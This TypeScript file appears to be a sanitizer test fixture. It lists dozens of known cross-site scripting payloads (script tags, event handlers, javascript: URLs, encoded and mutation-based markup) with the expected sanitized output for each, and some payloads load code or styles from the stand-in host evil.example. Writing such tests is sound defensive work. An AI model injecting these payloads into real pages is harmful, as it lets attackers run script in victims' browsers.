/** A text that tries to make a page run a script. */
export interface Payload {
  /** The text, of up to 100 characters to fit into every field. */
  sent: string
  /**
   * The text that a reader should see if the field allows markup; may be empty. A plain-text field shows `sent`
   * unchanged.
   */
  meant: string
}

/**
 * Well-known payloads: plain scripts, event handlers, script URLs, encodings, mutating markup, foreign content, and
 * attempts to break out of an attribute. Each would call `alert`.
 */
const TABLE: readonly (readonly [sent: string, meant: string])[] = [
  // Scripts.
  ['<script>alert(1)</script>socks', 'socks'],
  ['<script src=https://evil.example/x.js></script>socks', 'socks'],
  ['<ScRiPt>alert(1)</sCrIpT>socks', 'socks'],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt>alert(1)ipt>'],
  ['<script/x>alert(1)</script>socks', 'socks'],
  ['<script\n>alert(1)</script\n>socks', 'socks'],
  ['socks<script>alert(1)', 'socks'],
  ['</script><script>alert(1)</script>socks', 'socks'],
  ['<<script>alert(1);//<</script>socks', '<socks'],
  // Event handlers.
  ['socks<img src=x onerror=alert(1)>', 'socks'],
  ['socks<img src=x onerror="alert(1)" ', 'socks'],
  ['<img """><script>alert(1)</script>">socks', '">socks'],
  ['socks<img/src="x"/onerror=alert(1)>', 'socks'],
  ['socks<img src=x:x onerror\n=\nalert(1)>', 'socks'],
  ['<svg onload=alert(1)>socks', 'socks'],
  ['<svg/onload=alert(1)//socks', ''],
  ['<body onload=alert(1)>socks', 'socks'],
  ['<b onmouseover=alert(1)>socks</b>', 'socks'],
  ['<p style="animation:x" onanimationstart=alert(1)>socks</p>', 'socks'],
  ['<input autofocus onfocus=alert(1)>socks', 'socks'],
  ['<select autofocus onfocus=alert(1)></select>socks', 'socks'],
  ['<details open ontoggle=alert(1)>socks</details>', 'socks'],
  ['<video><source onerror=alert(1)></video>socks', 'socks'],
  ['<audio src=x onerror=alert(1)>socks</audio>', 'socks'],
  ['<marquee onstart=alert(1)>socks</marquee>', 'socks'],
  ['<div contenteditable onbeforeinput=alert(1)>socks</div>', 'socks'],
  ['<button popovertarget=x>socks</button><p id=x popover onbeforetoggle=alert(1)>', 'socks'],
  // Script URLs.
  ['<a href="javascript:alert(1)">socks</a>', 'socks'],
  ['<a href="JaVaScRiPt:alert(1)">socks</a>', 'socks'],
  ['<a href="&#106;avascript:alert(1)">socks</a>', 'socks'],
  ['<a href="java\tscript:alert(1)">socks</a>', 'socks'],
  ['<a href="&#1;javascript:alert(1)">socks</a>', 'socks'],
  ['<a href="javascript&colon;alert&lpar;1&rpar;">socks</a>', 'socks'],
  ['<a href="data:text/html,<script>alert(1)</script>">socks</a>', 'socks'],
  ['<a href="vbscript:msgbox(1)">socks</a>', 'socks'],
  ['<a href="//evil.example" target=_blank ping=//evil.example>socks</a>', 'socks'],
  ['<a href="/\\evil.example">socks</a>', 'socks'],
  ['<iframe src="javascript:alert(1)"></iframe>socks', 'socks'],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>socks', 'socks'],
  ['<object data="javascript:alert(1)"></object>socks', 'socks'],
  ['<embed src="javascript:alert(1)">socks', 'socks'],
  ['<form action="javascript:alert(1)"><button>socks</button></form>', 'socks'],
  ['<form id=x></form><button form=x formaction="javascript:alert(1)">socks</button>', 'socks'],
  ['<meta http-equiv=refresh content="0;url=javascript:alert(1)">socks', 'socks'],
  ['<base href="javascript:alert(1)//">socks', 'socks'],
  // Styles.
  ['<style>@import "//evil.example/x.css"</style>socks', 'socks'],
  ['<p style="background:url(//evil.example);position:fixed">socks</p>', 'socks'],
  // Foreign content (SVG, MathML), and markup that the parser rewrites.
  ['<svg><script>alert(1)</script></svg>socks', 'socks'],
  ['<svg><a xlink:href="javascript:alert(1)"><text>socks</text></a></svg>', 'socks'],
  ['<svg><style><img src=x onerror=alert(1)></style></svg>socks', 'socks'],
  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></math>socks', 'socks'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>socks', 'socks'],
  ['<textarea></textarea><img src=x onerror=alert(1)>socks', 'socks'],
  ['<!--><img src=x onerror=alert(1)>-->socks', '-->socks'],
  ['<template><script>alert(1)</script></template>socks', 'socks'],
  // Attempts to break out of an attribute or a string.
  ['"><img src=x onerror=alert(1)>', '">'],
  ["' onfocus='alert(1)' autofocus='", "' onfocus='alert(1)' autofocus='"],
  ['{{constructor.constructor("alert(1)")()}}', '{{constructor.constructor("alert(1)")()}}'],
  ['&lt;script&gt;alert(1)&lt;/script&gt;', '<script>alert(1)</script>'],
  ['1 < 2 && 3 > 2 <3', '1 < 2 && 3 > 2 <3'],
]

export const PAYLOADS: readonly Payload[] = TABLE.map(([sent, meant]) => ({ sent, meant }))
